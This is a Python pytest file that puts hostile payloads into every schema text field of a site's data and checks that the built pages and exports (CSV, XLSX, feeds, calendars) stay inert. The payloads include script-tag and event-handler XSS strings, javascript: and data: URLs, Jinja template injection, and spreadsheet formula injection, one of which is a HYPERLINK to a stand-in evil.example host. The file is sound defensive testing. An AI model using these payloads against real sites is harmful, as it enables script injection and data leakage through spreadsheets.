"""Schema-driven injection test: hostile text in every field the schema lets hold text.

The data files are read, each is matched to the model it validates against,
and every text, URL and e-mail field of every record (also optional ones the
real data leaves out, and optional sub-records, which are made up) gets a
hostile payload. Which fields take text is asked of the schema itself
(``kin.shapes``), so a new field is covered without touching this test. Then the site is built and:

* in Chromium, no payload executes on any page, none turns into markup, and
  the CSP reports no violation (search included);
* every export (calendars, feeds, JSON, CSV, XLSX, sitemap, search index)
  parses, and the payloads come back out of it as text.
"""

from __future__ import annotations

import csv
import functools
import io
import itertools
import json
import shutil
import typing
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import feedparser
import pytest
import yaml
from conftest import DATA, build_site, serve
from icalendar import Calendar
from loading import load
from pydantic import BaseModel, TypeAdapter, ValidationError

from kin import DataValidationError, export, load_dataset, shapes
from kin import schema as s
from kin.loader import load_yaml

pytestmark = pytest.mark.browser

JINJA_RESULT = "7000021"  # what {{ 1000003*7 }} would render to
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

TEXT_PAYLOADS = [
    "</title></textarea></script></style>\"'><kin-x data-kin-x=1></kin-x><script>window.__kin_xss=1</script> {m}",
    '" onmouseover="window.__kin_xss=1" data-kin-x="1 \' onfocus=\'window.__kin_xss=1\' '
    "<img src=x onerror=window.__kin_xss=1 data-kin-x> {m}",
    "javascript:window.__kin_xss=1// [klikk](javascript:window.__kin_xss=1) <a href=javascript:1 data-kin-x>{m}</a>",
    "data:text/html,<kin-x data-kin-x=1>{m}</kin-x> <iframe data-kin-x src=data:text/html,x></iframe>",
    "{{{{ 1000003*7 }}}} {{% raw %}}{{{{ config }}}}{{% endraw %}} {{# c #}} {m}",
    '=HYPERLINK("https://evil.example/?{m}","klikk")',
    "+1+1 {m}",
    "-2+3 {m}",
    "@SUM(1,2) {m}",
    "\t=1+1 {m}",
    "{m} \u05e9\u05dc\u05d5\u05dd fdp.exe (ltr) \u0645\u0631\u062d\u0628\u0627",  # right-to-left text itself is fine
    "linje 1\nlinje 2 <kin-x data-kin-x=1> ]]> --> {m}",
]
URL_PAYLOAD = "https://evil.example/{m}?a=\"><kin-x/data-kin-x=1>&b='onmouseover='window.__kin_xss=1"
# Fields no valid record can hold a made-up value in, next to the real data (found by this test).
UNREACHABLE: set[tuple[str, str]] = set()
EMAIL_PAYLOAD = '{m}"><kin-x/data-kin-x=1>@evil.example'


def _adapter(model: type[BaseModel], name: str) -> TypeAdapter:
    info = model.model_fields[name]
    annotation = typing.Annotated[info.annotation, *info.metadata] if info.metadata else info.annotation
    return TypeAdapter(annotation)


@functools.cache
def _model_adapter(model: type[BaseModel]) -> TypeAdapter:
    return TypeAdapter(model)


def _accepts(adapter: TypeAdapter, value: object) -> bool:
    try:
        adapter.validate_python(value)
    except ValidationError:
        return False
    return True


SHAPES = (lambda v: v, lambda v: [v], lambda v: [[v]])  # text, list of text, table of text
HOSTILE_KINDS = ("text", "url", "email")  # kinds of field (kin.shapes) that get a payload (Poisoner.payload)
# A valid value for a required field that gets no payload, by its kind (enums take their first value).
SAMPLES = {"date": "2022-02-08", "clock": "12:00", "id": "2022-02-08", "number": 2022, "bool": True}


def field_kind(model: type[BaseModel], name: str) -> tuple[str, int] | None:
    """What a field takes, asked of the schema: (text, url or email; nesting depth), or None."""
    shape = shapes.fields(model)[name]
    if shape.ref is not None:
        return None  # an id of another record: must stay valid
    kind = "text" if str in shape.inputs else shape.kind  # a record that may be written as text (a bullet point)
    return (kind, shape.depth) if kind in HOSTILE_KINDS else None


def _submodel(model: type[BaseModel], name: str) -> tuple[type[BaseModel] | None, bool]:
    """The record nested in a field that gets no payload of its own, and whether it is a list of them."""
    shape = shapes.fields(model)[name]
    return (shape.model, shape.many) if field_kind(model, name) is None else (None, False)


class Poisoner:
    """Fills every text field of a raw record with a payload carrying a unique marker."""

    def __init__(self, ids: dict[str, list[str]]) -> None:
        self.ids = ids
        self.counter = itertools.count(1)
        self.filled: set[tuple[str, str]] = set()
        self.markers: list[str] = []
        self.made: list[tuple[Path, dict, str]] = []  # (file, record, field) where a made-up sub-record went
        self.file = Path()

    def payload(self, kind: str) -> str:
        marker = f"KINX{next(self.counter)}"
        self.markers.append(marker)
        if kind == "url":
            return URL_PAYLOAD.format(m=marker)
        if kind == "email":
            return EMAIL_PAYLOAD.format(m=marker.lower())
        return TEXT_PAYLOADS[len(self.markers) % len(TEXT_PAYLOADS)].format(m=marker)

    def poisoned(self, value: object, kind: str) -> object:
        """``value`` with every text in it replaced, keeping its shape (list lengths, table rows)."""
        if isinstance(value, str):
            return self.payload(kind)
        if isinstance(value, list):
            return [self.poisoned(item, kind) for item in value]
        return value  # e.g. the mapping form of a text-or-mapping field

    def fill(self, model: type[BaseModel], raw: dict, make_children: bool = True) -> dict:
        for name in model.model_fields:
            found = field_kind(model, name)
            if found is not None:
                kind, depth = found
                present = raw.get(name)
                raw[name] = self.poisoned(present, kind) if present else SHAPES[depth](self.payload(kind))
                self.filled.add((model.__name__, name))
                continue
            sub, many = _submodel(model, name)
            if sub is None:
                continue
            present = raw.get(name)
            if many and present:
                raw[name] = [self.fill(sub, x, make_children) if isinstance(x, dict) else x for x in present]
            elif not many and isinstance(present, dict):
                raw[name] = self.fill(sub, present, make_children)
            elif make_children and (made := self.make(sub)) is not None:
                raw[name] = [made] if many else made
                self.made.append((self.file, raw, name))
        return raw

    def make(self, model: type[BaseModel]) -> dict | None:
        """A new record of ``model``: payloads in its text, valid samples in its required fields."""
        raw: dict = {}
        for name, info in model.model_fields.items():
            if field_kind(model, name) is None and info.is_required():
                sample = self.sample(model, name)
                if sample is None:
                    return None
                raw[name] = sample
        raw = self.fill(model, raw, make_children=False)
        return raw if _accepts(_model_adapter(model), raw) else None

    def sample(self, model: type[BaseModel], name: str) -> object:
        shape = shapes.fields(model)[name]
        if shape.ref is not None:
            target = self.ids.get(shape.ref.collection, [])
            return None if not target else ([target[0]] if shape.many else target[0])
        return shape.values[0] if shape.values else SAMPLES.get(shape.kind)


def _file_models() -> list[type[BaseModel]]:
    found, todo = [], [s.Model]
    while todo:
        cls = todo.pop()
        found.append(cls)
        todo.extend(cls.__subclasses__())
    return [m for m in found if m is not s.Model and m.__module__.startswith(f"{s.__name__}.")]  # kin.schema.*


def model_of(raw: object) -> type[BaseModel]:
    """The schema model a data file validates against (the one with the most fields, if several)."""
    fits = [m for m in _file_models() if _accepts(_model_adapter(m), raw)]
    assert fits, "a real data file matches no model"
    return max(fits, key=lambda m: len(m.model_fields))


def _cover(model: type[BaseModel], raw: object, covered: set[tuple[str, str]]) -> None:
    """Record every text field that holds a payload in the final hostile data."""
    if not isinstance(raw, dict):
        return
    for name in model.model_fields:
        if name not in raw:
            continue
        if field_kind(model, name) is not None and "KINX" in json.dumps(raw[name]).upper():
            covered.add((model.__name__, name))
        sub, many = _submodel(model, name)
        if sub is not None:
            for item in raw[name] if many and isinstance(raw[name], list) else [raw[name]]:
                _cover(sub, item, covered)


def _reachable(roots: set[type[BaseModel]]) -> set[type[BaseModel]]:
    seen, todo = set(), list(roots)
    while todo:
        model = todo.pop()
        if model in seen:
            continue
        seen.add(model)
        for name in model.model_fields:
            sub, _ = _submodel(model, name)
            if sub is not None:
                todo.append(sub)
    return seen


def hostile_data(root: Path, poison_class: type[Poisoner] = Poisoner) -> tuple[Path, Poisoner]:
    """A copy of the real data under ``root`` with a payload in every text field; still valid.
    Also used by tests/test_hostile_edges.py."""
    real = load(DATA)  # the real data, loaded once per process (loading)
    ids = {  # a Ref's collection is named like the Dataset's list of those records
        name: [record.id for record in records]
        for name, records in vars(real).items()
        if isinstance(records, list) and records and hasattr(records[0], "id")
    }
    data = root / "data"
    shutil.copytree(DATA, data)  # files that are not records (README) come along as they are
    poison = poison_class(ids)
    files: dict[Path, tuple[type[BaseModel], dict]] = {}
    for path in sorted(DATA.rglob("*.y*ml")):
        raw, _, errors = load_yaml(path)
        assert not errors
        model = model_of(raw)
        poison.file = data / path.relative_to(DATA)
        files[poison.file] = (model, poison.fill(model, raw))
    changed = set(files)
    for _ in range(5):  # made-up sub-records can break a rule across fields (a venue for a digital event): drop those
        for target in changed:
            raw = files[target][1]
            text = yaml.dump(raw, Dumper=yaml.CSafeDumper, allow_unicode=True, sort_keys=False, width=10**6)  # libyaml
            target.write_text(text, encoding="utf-8")
        try:
            load_dataset(data)  # hostile, but valid
            break
        except DataValidationError as exc:
            broken = {(Path(e.file).name, str(e.path[-1]) if e.path else "") for e in exc.errors}
            dropped = [(f, r, n) for f, r, n in poison.made if (f.name, n) in broken and n in r]
            assert dropped, exc
            for _, record, name in dropped:
                del record[name]
            changed = {file for file, _, _ in dropped}  # only their files need writing again
    else:
        pytest.fail("hostile data stays invalid")

    covered: set[tuple[str, str]] = set()
    for model, raw in files.values():
        _cover(model, raw, covered)
    text_fields = {
        (m.__name__, name)
        for m in _reachable({model for model, _ in files.values()})
        for name in m.model_fields
        if field_kind(m, name) is not None
    }
    assert text_fields - covered == UNREACHABLE, f"text fields the test could not reach: {text_fields - covered}"
    return data, poison


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Poisoner]:
    """A copy of the real data with a payload in every text field, and the site built from it."""
    root = tmp_path_factory.mktemp("hostile")
    data, poison = hostile_data(root)
    out = root / "site"
    result = build_site(out, data)
    assert result.returncode == 0, result.stderr
    return out, poison


def test_every_text_field_is_poisoned_and_the_data_still_validates(hostile):
    _, poison = hostile
    assert len(poison.markers) > 500 and ("Person", "name") in poison.filled and ("Event", "title") in poison.filled


def test_nothing_executes_or_becomes_markup_on_any_page(hostile, browser):
    out, _ = hostile
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 90
    base, server = serve(out)
    page = browser.new_page()
    dialogs, violations = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    injected = """() => ({
        xss: window.__kin_xss || null,
        markup: document.querySelectorAll('kin-x, [data-kin-x], img[src="x"], iframe, object, embed').length,
        links: [...document.querySelectorAll('a[href], area[href], form[action]')]
            .map(a => a.getAttribute('href') || a.getAttribute('action'))
            .filter(h => /^\\s*(javascript|data|vbscript):/i.test(h)),
        scripts: [...document.scripts].filter(s => !s.src && (!s.type || /javascript|module/.test(s.type))
            && /KINX/.test(s.textContent)).length,
        title: document.title,
    })"""
    try:
        titled = 0
        for path in pages:
            rel = path.relative_to(out).as_posix()
            page.goto(base + rel)
            found = page.evaluate(injected)
            assert found["xss"] is None and found["markup"] == 0 and found["links"] == [] and found["scripts"] == 0, (
                rel,
                found,
            )
            titled += "KINX" in found["title"] and "<" in found["title"]
        assert titled > 30  # record pages carry the payload in <title>, as text
        page.goto(base)
        page.locator("label.md-search__icon, .md-search__input").first.click()
        page.locator("input.md-search__input").press_sequentially("KINX", delay=20)
        page.locator(".md-search-result__item a").first.wait_for(timeout=10_000)
        assert page.evaluate(injected)["markup"] == 0 and page.evaluate("window.__kin_xss || null") is None
        assert dialogs == [] and violations == []
    finally:
        page.close()
        server.shutdown()


def test_jinja_in_data_stays_text(hostile):
    out, _ = hostile
    for path in out.rglob("*"):
        if path.is_file() and path.suffix in {".html", ".json", ".xml", ".ics", ".csv"}:
            assert JINJA_RESULT not in path.read_text(encoding="utf-8", errors="replace"), path


def _csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    delimiter = ";" if ";" in text.splitlines()[0] else ","  # Norwegian spreadsheets use semicolons
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _exports(out: Path) -> dict[str, bytes]:
    data = load_dataset(Path(out).parent / "data")
    rels = [*export.files(data, "https://example.org/").keys(), "sitemap.xml", "search/search_index.json"]
    return {rel: (out / rel).read_bytes() for rel in rels}


def test_every_export_parses_and_keeps_the_payloads_as_text(hostile):
    out, _ = hostile
    exports = _exports(out)
    assert len(exports) > 8
    seen_marker = 0
    for rel, content in exports.items():
        suffix = Path(rel).suffix
        if suffix == ".json":
            text = json.dumps(json.loads(content), ensure_ascii=False)
        elif suffix == ".xml":
            ET.fromstring(content)
            feed = feedparser.parse(content)
            assert not feed.bozo, (rel, feed.bozo_exception)
            text = json.dumps([dict(e) for e in feed.entries], default=str, ensure_ascii=False) + content.decode()
        elif suffix == ".ics":
            calendar = Calendar.from_ical(content)
            text = "".join(str(c.get("SUMMARY", "")) + str(c.get("DESCRIPTION", "")) for c in calendar.walk())
        elif suffix == ".csv":
            rows = _csv_rows(content)
            assert len({len(r) for r in rows}) == 1, rel
            text = json.dumps(rows, ensure_ascii=False)
        elif suffix == ".xlsx":
            with zipfile.ZipFile(io.BytesIO(content)) as book:
                parts = [book.read(n) for n in book.namelist() if n.endswith(".xml")]
            for part in parts:
                ET.fromstring(part)
            text = b"".join(parts).decode()
        else:
            pytest.fail(f"export {rel} of a kind this test cannot parse: add a parser")
        seen_marker += "KINX" in text and "<kin-x" in text.replace("&lt;", "<")
    assert seen_marker >= 6


def test_catalogue_csv_neutralises_formulas(hostile):
    """OWASP CSV injection: no cell starts a formula (a leading ' keeps the text readable)."""
    out, _ = hostile
    csvs = {rel: c for rel, c in _exports(out).items() if rel.endswith(".csv")}
    assert csvs
    for rel, content in csvs.items():
        for row in _csv_rows(content):
            bad = [cell for cell in row if cell.startswith(FORMULA_START)]
            assert bad == [], (rel, bad)
